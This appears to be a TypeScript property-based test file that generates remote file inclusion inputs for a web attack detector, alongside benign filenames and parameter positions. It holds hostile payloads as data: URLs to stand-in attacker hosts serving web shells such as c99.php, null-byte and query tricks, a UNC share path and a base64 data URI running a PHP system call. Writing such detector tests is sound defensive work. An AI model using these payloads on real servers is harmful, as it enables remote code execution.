// Remote file inclusion variants: a URL to attacker-controlled code given to an include-like
// parameter, with the tricks that defeat an appended suffix (`?`, `%00`, `#`) or hide the host.
import fc from "fast-check";
import { pick } from "./positions.js";

export const rfiAttack: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(pick(["http://", "https://", "ftp://", "HTTP://"]), pick(["203.0.113.7", "attacker.example", "198.51.100.2:8080"]), pick(["/shell.txt", "/c99.php", "/x.txt"]), pick(["?", "??", "%00", "?cmd=id", ""])).map((xs) => xs.join("")),
  pick(["\\\\203.0.113.7\\share\\shell.php", "ftp://anonymous@203.0.113.7/x.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+", "http://attacker.example%2f@203.0.113.7/x.php"]),
);
/** Include-like parameter names (positions.ts NAMES: file, path, template; `page` is no include word for the detector). */
export const rfiNames = [2, 11, 9];
export const rfiBenign: fc.Arbitrary<string> = pick(["about.html", "home", "docs/intro.md", "reports/2024.pdf", "templates/main"]);
export const rfiPositions = ["query", "form", "json", "cookie"] as ("query" | "form" | "json" | "cookie")[];
